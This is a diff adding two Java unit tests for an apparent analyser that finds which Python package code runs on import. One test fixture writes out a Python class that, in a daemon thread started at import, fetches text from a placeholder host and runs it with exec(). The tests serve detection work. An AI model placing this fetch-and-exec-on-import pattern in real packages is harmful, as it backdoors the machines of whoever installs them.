@@ -216,4 +216,39 @@ class EntryPointsTest {
                 """), entryPoints.moduleTrigger("t-1/t/main.py"));
         assertThat(main.trigger("persist")).isEqualTo(Trigger.IMPORT);
     }
+
+    @Test
+    void aBoundMethodStartedAsAThreadRunsThenWithTheMethodsItCalls() {
+        EntryPoints entryPoints = new EntryPoints(List.of("a-1/a/__init__.py"));
+        EntryPoints.Reach reach = entryPoints.reach("a-1/a/__init__.py", model("""
+                import threading, requests
+                class Agent:
+                    def poll(self):
+                        return requests.get('https://example.invalid/task').text
+                    def loop(self):
+                        exec(self.poll())
+                    def unused(self):
+                        pass
+                threading.Thread(target=Agent().loop, daemon=True).start()
+                """), entryPoints.moduleTrigger("a-1/a/__init__.py"));
+        assertThat(reach.trigger("Agent.loop")).isEqualTo(Trigger.IMPORT);
+        assertThat(reach.trigger("Agent.poll")).isEqualTo(Trigger.IMPORT);
+        assertThat(reach.trigger("Agent.unused")).isEqualTo(Trigger.NONE);
+    }
+
+    @Test
+    void aMethodOfAnotherModulesClassStartedAsAThreadRunsThen() {
+        EntryPoints entryPoints = new EntryPoints(List.of("m-1/m/__init__.py", "m-1/m/agent.py"));
+        entryPoints.reach("m-1/m/__init__.py", model("""
+                import threading
+                from .agent import Agent
+                threading.Thread(target=Agent('https://example.invalid').loop).start()
+                """), entryPoints.moduleTrigger("m-1/m/__init__.py"));
+        EntryPoints.Reach agent = entryPoints.reach("m-1/m/agent.py", model("""
+                class Agent:
+                    def loop(self):
+                        pass
+                """), entryPoints.moduleTrigger("m-1/m/agent.py"));
+        assertThat(agent.trigger("Agent.loop")).isEqualTo(Trigger.IMPORT);
+    }
 }
